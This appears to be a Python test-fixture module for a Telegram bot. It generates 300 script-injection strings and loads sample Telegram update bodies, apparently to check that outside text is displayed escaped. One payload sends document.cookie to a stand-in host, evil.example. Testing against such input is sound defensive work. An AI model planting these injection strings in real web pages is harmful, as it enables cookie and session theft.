"""What comes from outside, as it came.

SCRIPTS: three hundred texts that would run a script, or call a foreign host, where a page shows them as they are.
TELEGRAM: the bodies of its updates of every kind, by name; in them the bot is @hal_bot, number 4242.
"""

from __future__ import annotations

from pathlib import Path

RUNS = ("alert(1)", "window.harm=1", "fetch('//evil.example/'+document.cookie)")
SHAPES = Path(__file__).with_name("scripts.txt").read_text().splitlines()  # `{}` is where the script stands
ESCAPES = {r"\n": "\n", r"\t": "\t", r"\0": "\0", "{{": "{", "}}": "}"}


def _filled(shape: str, run: str) -> str:
    for written, meant in {"{}": run, **ESCAPES}.items():
        shape = shape.replace(written, meant)
    return shape


SCRIPTS = tuple(_filled(shape, run) for run in RUNS for shape in SHAPES)[:300]
TELEGRAM = {file.stem: file.read_bytes() for file in Path(__file__).with_name("telegram").glob("*.json")}
